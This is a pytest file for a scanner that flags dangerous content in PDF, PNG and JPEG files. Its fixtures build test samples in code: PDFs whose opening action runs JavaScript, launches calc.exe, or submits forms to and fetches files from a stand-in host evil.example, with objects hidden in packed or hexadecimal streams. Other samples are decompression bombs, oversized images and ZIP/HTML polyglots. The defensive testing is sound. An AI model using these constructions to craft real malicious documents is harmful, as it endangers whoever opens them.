"""A file that would do something to whoever opens it is found, however it hides that."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from builder.load.safe import danger
from builder.subjects import SUBJECTS


def pdf(change: Callable[[PdfWriter], object] = lambda _: None, packed: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return squeezed(target.getvalue()) if packed else target.getvalue()


def squeezed(data: bytes, way: str = "FlateDecode") -> bytes:
    """Return the document with its objects in a stream (ISO 32000-1, 7.5.7), packed or in hexadecimal."""
    reader = PdfReader(io.BytesIO(data))
    bodies, offsets, at = [], [], 0
    numbers = sorted(number for number in reader.xref[0] if number)
    for number in numbers:
        target = io.BytesIO()
        reader.get_object(number).write_to_stream(target)  # type: ignore[union-attr]
        offsets.append(f"{number} {at}")
        bodies.append(target.getvalue() + b"\n")
        at += len(bodies[-1])
    head = (" ".join(offsets) + " ").encode()
    whole = head + b"".join(bodies)
    part = zlib.compress(whole) if way == "FlateDecode" else whole.hex().encode() + b">"
    of, last = max(numbers) + 1, max(numbers) + 2
    out = b"%PDF-1.5\n"
    start = len(out)
    out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/%s/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        of, len(numbers), len(head), way.encode(), len(part), part)  # fmt: skip
    table = len(out)
    rows = b"\0\0\0\0\xff" + b"".join(
        b"\2" + struct.pack(">HH", of, numbers.index(n)) if n in numbers else b"\0\0\0\0\xff" for n in range(1, of)
    )
    rows += b"\1" + struct.pack(">HH", start, 0) + b"\1" + struct.pack(">HH", table, 0)
    root = reader.trailer.raw_get("/Root").idnum
    out += b"%d 0 obj\n<</Type/XRef/Size %d/W[1 2 2]/Root %d 0 R/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        last, last + 1, root, len(rows), rows)  # fmt: skip
    return out + b"startxref\n%d\n%%%%EOF\n" % table


def opening(kind: str, **more: str) -> Callable[[PdfWriter], object]:
    action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()})
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): action})


def nested(depth: int) -> Callable[[PdfWriter], object]:
    def change(writer: PdfWriter) -> None:
        inner: ArrayObject | DictionaryObject = ArrayObject()
        for _ in range(depth):
            inner = ArrayObject([inner])
        writer.root_object[NameObject("/Mingge")] = inner

    return change


def picture(writer: PdfWriter) -> None:
    image = DecodedStreamObject()
    image.update({NameObject("/Subtype"): NameObject("/Image")})
    image.set_data(b"0")
    image.update({NameObject("/Width"): NumberObject(60_000), NameObject("/Height"): NumberObject(60_000)})
    writer._add_object(image)


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    parts = ((b"IHDR", struct.pack(">II", width, height) + bytes(5)), *chunks, (b"IDAT", b"12"), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4) for name, data in parts
    )


def jpeg(width: int, height: int, marker: int = 0xC0) -> bytes:
    frame = b"\xff%c\0\x0b\x08" % marker + struct.pack(">HH", height, width) + b"\1\1\x11\0"
    return b"\xff\xd8" + frame + b"\xff\xda\0\x08\1\1\0\0?\0" + b"\x12\xff\0\x34" + b"\xff\xd9"


def with_zip(data: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as target:
        target.writestr("a.html", "<script>alert(1)</script>")
    return data + archive.getvalue()


NAMED = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject()})})



def by_name(writer: PdfWriter) -> None:
    writer.root_object.update({NameObject("/Names"): NAMED})


FILES = {
    "a document": ("pdf", pdf(), ""),
    "a packed document": ("pdf", pdf(packed=True), ""),
    "a web link": ("pdf", pdf(opening("URI", URI="https://example.org/")), ""),
    "a script by name": ("pdf", pdf(by_name), "JavaScript"),
    "a script on opening": ("pdf", pdf(opening("JavaScript", JS="app.alert(1)")), "JavaScript"),
    "a packed script": ("pdf", pdf(opening("JavaScript", JS="app.alert(1)"), packed=True), "JavaScript"),
    "a script's name in hexadecimal": (
        "pdf", pdf(opening("JavaScript", JS="1")).replace(b"/JavaScript", b"/J#61v#61Script"), "JavaScript"),
    "a document in hexadecimal": ("pdf", squeezed(pdf(), "ASCIIHexDecode"), ""),
    "a script by name in hexadecimal": ("pdf", squeezed(pdf(by_name), "ASCIIHexDecode"), "JavaScript"),
    "a program in hexadecimal": ("pdf", squeezed(pdf(opening("Launch", F="calc.exe")), "ASCIIHexDecode"), "Launch"),
    "a program": ("pdf", pdf(opening("Launch", F="calc.exe")), "Launch"),
    "a packed program": ("pdf", pdf(opening("Launch", F="calc.exe"), packed=True), "Launch"),
    "a form that sends": ("pdf", pdf(opening("SubmitForm", F="https://evil.example/")), "SubmitForm"),
    "another file": ("pdf", pdf(opening("GoToR", F="//evil.example/x.pdf")), "GoToR"),
    "a link that is a script": ("pdf", pdf(opening("URI", URI="javascript:alert(1)")), "URI"),
    "a file inside": ("pdf", pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), "EmbeddedFile"),
    "a password": ("pdf", pdf(lambda writer: writer.encrypt("x", algorithm="RC4-128")), "Encrypt"),
    "no password to open": ("pdf", pdf(lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")), "Encrypt"),
    "a deep document": ("pdf", pdf(nested(200)), "depth"),
    "a giant picture in a document": ("pdf", pdf(picture), "pixels"),
    "a page of HTML in its head": ("pdf", pdf().replace(b"\n", b"\n<html><script>alert(1)</script>\n", 1), "HTML"),
    "an archive behind it": ("pdf", with_zip(pdf()), "ZIP"),
    "no document": ("pdf", b"%PDF-1.4\n%%EOF", "unreadable"),
    "a PNG": ("png", png(4_000, 3_000), ""),
    "a giant PNG": ("png", png(30_000, 30_000), "30000x30000"),
    "a long PNG": ("png", png(1, 60_000), "1x60000"),
    "an empty PNG": ("png", png(0, 5), "unreadable"),
    "a PNG without a head": ("png", b"\x89PNG\r\n\x1a\nIEND\xaeB`\x82", "unreadable"),
    "a bomb in a PNG": ("png", png(9, 9, (b"iCCP", b"a\0\0" + zlib.compress(bytes(3 * 10**7)))), "bomb"),
    "a PNG that is an archive": ("png", with_zip(png(9, 9)), "ZIP"),
    "a JPEG": ("jpeg", jpeg(4_000, 3_000), ""),
    "a giant JPEG": ("jpeg", jpeg(65_000, 65_000), "65000x65000"),
    "a giant JPEG of another process": ("jpeg", jpeg(30_000, 9_000, 0xC2), "30000x9000"),
    "a JPEG without a frame": ("jpeg", b"\xff\xd8\xff\xd9", "unreadable"),
}  # fmt: skip


@pytest.mark.parametrize(("kind", "data", "found"), FILES.values(), ids=FILES)
def test_what_a_file_would_do_is_named(kind: str, data: bytes, found: str) -> None:
    assert danger(kind, data) == found


def test_a_damaged_document_is_refused_or_read_and_never_stops_the_build() -> None:
    rng, whole = random.Random(1), pdf(opening("JavaScript", JS="1"))  # noqa: S311
    for _ in range(150):
        data = bytearray(whole)
        for _ in range(rng.randint(1, 30)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        assert isinstance(danger("pdf", bytes(data[: rng.randint(20, len(data))])), str)


def test_the_demonstration_does_nothing_to_anybody() -> None:
    files = {name: data for subject in SUBJECTS if subject.demo for name, data in subject.demo.attachments().items()}
    kinds = {"pdf": "pdf", "png": "png", "jpg": "jpeg"}
    assert files
    assert [name for name, data in files.items() if danger(kinds[name.rpartition(".")[2]], data)] == []
